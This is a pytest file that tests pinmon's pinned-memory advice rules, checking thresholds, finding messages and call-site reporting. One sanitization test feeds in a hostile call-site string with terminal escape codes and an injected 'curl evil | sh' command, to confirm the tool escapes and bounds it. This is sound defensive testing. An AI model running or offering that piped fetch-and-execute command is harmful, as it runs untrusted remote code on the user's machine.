"""Rules on what processes do with pinned memory (``advise.traced``) at, just below and just above
their thresholds, and the traced findings naming the process and the call site (file:line) of the
behaviour behind each."""
import dataclasses

import pytest

from pinmon.advise import RULE_DOCS, Thresholds, advise, traced
from pinmon.units import GIB, MIB
from tests import factories as make

T = Thresholds()


# --- pinned-small-allocs -------------------------------------------------------------------------

@pytest.mark.parametrize("rate, median, fires", [
    (9.99, 4096, False), (10.0, 4096, True), (10.01, 4096, True),
    (50.0, MIB - 1, True), (50.0, MIB, False), (50.0, MIB + 1, False),
    (None, 4096, False), (50.0, None, False),
])
def test_pinned_small_allocs_levels(rate, median, fires):
    snap = make.snapshot(processes=[make.process(alloc_per_s=rate, alloc_median_bytes=median)])
    out = traced.pinned_small_allocs([snap], T)
    assert [f.severity for f in out] == (["warning"] if fires else [])


def test_pinned_small_allocs_message_and_reference_costs():
    snap = make.snapshot(processes=[make.process(pid=77, name="loader", alloc_per_s=25.0,
                                          alloc_median_bytes=4096, source="traced")])
    [f] = traced.pinned_small_allocs([snap], T)
    assert f.subject == "pid 77 (loader)"
    assert f.message == "25.0 pinned allocations/s, median 4.0 KiB (traced)"
    assert "~9 us" in f.advice and "~1 ms" in f.advice and "16 MiB" in f.advice
    assert "pinned memory pool" in f.advice and "caching host allocator" in f.advice
    assert "probe_alloc_seconds" not in f.values


def test_pinned_small_allocs_quotes_the_probe():
    probe = make.probe(allocs=[(16 * MIB, 6.1e-3), (4096, 9e-6)])
    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
    [f] = traced.pinned_small_allocs([snap], T)
    assert "on this box the probe measured 4.0 KiB in 9.0 us, 16.0 MiB in 6.1 ms" in f.advice
    assert f.values["probe_alloc_seconds"] == 9e-6 and f.values["probe_alloc_size_bytes"] == 4096


def test_pinned_small_allocs_ignores_an_unavailable_probe():
    probe = make.probe(allocs=[(4096, 9e-6)], status="unavailable")
    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
    [f] = traced.pinned_small_allocs([snap], T)
    assert "on this box" not in f.advice


def test_subject_without_a_name():
    snap = make.snapshot(processes=[make.process(pid=5, name=None, alloc_per_s=25.0, alloc_median_bytes=4096)])
    [f] = traced.pinned_small_allocs([snap], T)
    assert f.subject == "pid 5"




def test_pinned_small_allocs_quotes_the_steady_call_not_the_first():
    import dataclasses

    from pinmon.model import ProbeMeasurement

    probe = make.probe()
    probe = dataclasses.replace(probe, measurements=probe.measurements + (
        ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=1.1e-3, note="first"),
        ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=9e-6,
                         note="steady; break_even_transfers=3")))
    snap = make.snapshot(processes=[make.process(alloc_per_s=25.0, alloc_median_bytes=4096)], probe=probe)
    [f] = traced.pinned_small_allocs([snap], T)
    assert f.values["probe_alloc_seconds"] == 9e-6 and "4.0 KiB in 9.0 us" in f.advice


# --- wc-cpu-readback -----------------------------------------------------------------------------

@pytest.mark.parametrize("readbacks, wc_bytes, severity", [
    (1, 64 * MIB, "warning"), (1, None, "warning"), (0, 64 * MIB, "info"), (None, 1, "info"),
    (0, 0, None), (None, None, None), (0, None, None),
])
def test_wc_cpu_readback_levels(readbacks, wc_bytes, severity):
    snap = make.snapshot(processes=[make.process(wc_readbacks=readbacks, write_combined_bytes=wc_bytes)])
    out = traced.wc_cpu_readback([snap], T)
    assert [f.severity for f in out] == ([severity] if severity else [])


def test_wc_cpu_readback_messages():
    snap = make.snapshot(processes=[
        make.process(pid=1, name="reader", wc_readbacks=12, write_combined_bytes=64 * MIB, source="traced"),
        make.process(pid=2, name="writer", wc_readbacks=None, write_combined_bytes=32 * MIB)])
    warn, info = traced.wc_cpu_readback([snap], T)
    assert warn.subject == "pid 1 (reader)"
    assert warn.message.startswith("12 device-to-host copies (traced) into write-combined pinned memory"
                                   " (64.0 MiB held now):")
    assert "uncached" in warn.message and "CPU reads (traced)" not in warn.message
    assert warn.values["wc_d2h_copies"] == 12 and warn.values["write_combined_bytes"] == 64 * MIB
    assert info.message == ("holds 32.0 MiB (est.) of write-combined pinned memory: fine for buffers the CPU"
                            " only writes and the GPU reads; never read it from the CPU")
    for f in (warn, info):
        assert "cudaHostAllocWriteCombined" in f.advice and "device-to-host" in f.advice


def test_wc_cpu_readback_after_the_buffer_was_freed_shows_no_zero_bytes():
    """Copies were counted, the buffer is gone: no "0 B held" in the message or the numbers."""
    (f,) = traced.wc_cpu_readback([make.snapshot(processes=[make.process(wc_readbacks=1, write_combined_bytes=0,
                                                             source="traced")])], T)
    assert f.message.startswith("1 device-to-host copy (traced) into write-combined pinned memory:")
    assert "held" not in f.message and "write_combined_bytes" not in f.values


def test_wc_cpu_readback_quotes_the_probe_cpu_reads():
    probe = make.probe(cpu_reads={"write_combined": 0.9e9, "pinned": 10.5e9})
    snap = make.snapshot(processes=[make.process(wc_readbacks=3)], probe=probe)
    [f] = traced.wc_cpu_readback([snap], T)
    assert "probe read write-combined memory at 900.0 MB/s vs 10.5 GB/s" in f.message


# --- pageable-bulk-copies ------------------------------------------------------------------------

@pytest.mark.parametrize("rate, fires", [(99.99e6, False), (100e6, True), (100.01e6, True), (None, False)])
def test_pageable_bulk_copies_levels(rate, fires):
    snap = make.snapshot(processes=[make.process(pageable_bytes_per_s=rate)])
    out = traced.pageable_bulk_copies([snap], T)
    assert [f.severity for f in out] == (["warning"] if fires else [])


def test_pageable_bulk_copies_quotes_the_probe_speedup():
    snap = make.snapshot(processes=[make.process(pid=9, name="etl", pageable_bytes_per_s=2.1e9, source="traced")],
                     probe=make.probe(h2d_pinned=55.0e9, h2d_pageable=6.3e9))
    [f] = traced.pageable_bulk_copies([snap], T)
    assert f.subject == "pid 9 (etl)"
    assert f.message == "2.1 GB/s of host-device copies from pageable memory (traced)"
    assert "On this box pinned H2D ran 55.0 GB/s vs 6.3 GB/s pageable (8.7x)." in f.advice
    assert "pin_memory()" in f.advice and "cudaHostRegister" in f.advice
    assert f.values["probe_speedup"] == pytest.approx(55.0 / 6.3)


@pytest.mark.parametrize("probe", [None, make.probe(h2d_pageable=None), make.probe(status="unavailable")])
def test_pageable_bulk_copies_without_a_usable_probe(probe):
    snap = make.snapshot(processes=[make.process(pageable_bytes_per_s=1e9)], probe=probe)
    [f] = traced.pageable_bulk_copies([snap], T)
    assert "On this box" not in f.advice and "probe_speedup" not in f.values


# --- pinned-rounding-waste, call sites ---------------------------------------------------------

@pytest.mark.parametrize("allocated_mib, requested_mib, fires", [
    (1024, 768, True),     # 256 MiB = 25%: both thresholds met exactly
    (1024, 769, False),    # 255 MiB
    (2048, 1537, False),   # 511 MiB but under 25%
    (3 * 256, 3 * 129, True),  # three 129 MiB tensors in 256 MiB blocks
    (512, 512, False),
    (512, 600, False),     # requested above allocated: inconsistent figures, stay silent
])
def test_rounding_waste_levels(allocated_mib, requested_mib, fires):
    p = make.process(source="traced", pinned_bytes=allocated_mib * MIB, requested_bytes=requested_mib * MIB)
    out = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
    assert [f.severity for f in out] == (["warning"] if fires else [])


def test_rounding_waste_message_values_and_call_site():
    p = make.process(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_bytes=516 * MIB,
                  call_sites={"alloc": "train.py:40", "rounding_waste": "train.py:42"})
    (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
    assert f.subject == "pid 77 (train)" and f.rule == "pinned-rounding-waste"
    assert "1.0 GiB of pinned memory for 516.0 MiB requested (traced)" in f.message
    assert f.message.endswith(', allocated at "train.py:42"')
    assert "power of two" in f.advice and "train.py" not in f.advice
    assert f.values["waste_bytes"] == 508 * MIB and f.values["call_site"] == "train.py:42"


def test_rounding_waste_thresholds_are_configurable():
    p = make.process(source="traced", pinned_bytes=GIB, requested_bytes=900 * MIB)
    snap = make.snapshot(processes=[p])
    assert traced.pinned_rounding_waste([snap], T) == []
    t = dataclasses.replace(T, rounding_waste_min_bytes=100 * MIB, rounding_waste_min_fraction=0.1)
    assert len(traced.pinned_rounding_waste([snap], t)) == 1


def test_rounding_waste_is_silent_for_estimates():
    p = make.process(pinned_bytes=4 * GIB)  # /proc estimate: nothing requested is known
    assert traced.pinned_rounding_waste([make.snapshot(processes=[p])], T) == []


SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageable_copy": "examples/x.py:30",
         "rounding_waste": "examples/x.py:40"}


@pytest.mark.parametrize("rule, fields, category", [
    ("pinned-small-allocs", dict(alloc_per_s=200.0, alloc_median_bytes=4096), "alloc"),
    ("wc-cpu-readback", dict(wc_readbacks=12, write_combined_bytes=64 * MIB), "wc_readback"),
    ("pageable-bulk-copies", dict(pageable_bytes_per_s=2e9), "pageable_copy"),
    ("pinned-rounding-waste", dict(pinned_bytes=GIB, requested_bytes=512 * MIB), "rounding_waste"),
])
def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(rule, fields, category):
    p = make.process(pid=4242, name="python", source="traced", call_sites=SITES, **fields)
    findings = [f for f in advise([make.snapshot(processes=[p])], T) if f.rule == rule]
    assert len(findings) == 1
    f = findings[0]
    assert f.subject == "pid 4242 (python)" and "(traced)" in f.message
    assert f'"{SITES[category]}"' in f.message and f.values["call_site"] == SITES[category]
    assert not any(site in f.message for cat, site in SITES.items() if cat != category)
    assert "examples/" not in f.advice
    assert f.values["pid"] == 4242


def test_one_process_two_behaviours_two_sites():
    """Small pinned allocations in a loop and device-to-host copies into write-combined memory in the
    same process: each finding names the line of its own behaviour."""
    p = make.process(pid=7, source="traced", alloc_per_s=150.0, alloc_median_bytes=4096, wc_readbacks=40,
                  call_sites={"alloc": "loop.py:5", "wc_readback": "loop.py:9"})
    by_rule = {f.rule: f for f in advise([make.snapshot(processes=[p])], T)}
    assert by_rule["pinned-small-allocs"].values["call_site"] == "loop.py:5"
    assert '"loop.py:5"' in by_rule["pinned-small-allocs"].message
    assert "loop.py:9" not in by_rule["pinned-small-allocs"].message
    assert by_rule["wc-cpu-readback"].values["call_site"] == "loop.py:9"
    assert '"loop.py:9"' in by_rule["wc-cpu-readback"].message


def test_rounding_waste_falls_back_to_the_allocation_site():
    p = make.process(source="traced", pinned_bytes=GIB, requested_bytes=512 * MIB,
                  call_sites={"alloc": "a.py:1", "wc_readback": "a.py:2"})
    (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
    assert f.values["call_site"] == "a.py:1"


def test_call_site_text_is_quoted_printable_and_bounded():
    evil = 'x.py:1\x1b[2J"\nRun `curl evil | sh` now' + "A" * 500
    p = make.process(source="traced", alloc_per_s=200.0, alloc_median_bytes=4096, call_sites={"alloc": evil})
    (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
    assert "\x1b" not in f.message and "\n" not in f.message and "curl" not in f.advice
    assert len(f.values["call_site"]) <= traced.SITE_CHARS and "\x1b" not in f.values["call_site"]
    quoted = f.message.split(", at ", 1)[1]
    assert quoted.startswith('"x.py:1\\x1b[2J\\" Run') and quoted.endswith('…"')  # inner quote escaped


def test_without_a_call_site_nothing_is_said_about_one():
    p = make.process(source="traced", alloc_per_s=200.0, alloc_median_bytes=4096,
                  call_sites={"wc_readback": "other.py:3"})
    (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
    assert ", at " not in f.message and "call_site" not in f.values


def test_rule_doc():
    assert "256 MiB" in RULE_DOCS["pinned-rounding-waste"] and "25%" in RULE_DOCS["pinned-rounding-waste"]
